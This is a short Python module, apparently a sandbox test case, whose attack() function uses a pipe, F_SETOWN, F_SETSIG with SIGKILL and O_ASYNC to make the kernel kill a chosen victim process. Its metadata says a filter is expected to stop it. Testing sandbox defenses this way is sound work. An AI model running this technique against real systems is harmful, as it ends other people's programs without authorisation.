"""Have the kernel kill another process, as the owner of a pipe's input."""

from __future__ import annotations

import fcntl
import os
import signal
from typing import Any

EVIDENCE = "killed"
STOPPED_BY = "filter"
MEANS = "it ends your programs"
NEEDS = ("victim",)


def attack(at: Any) -> None:
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, at.victim)
    fcntl.fcntl(reader, 10, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")
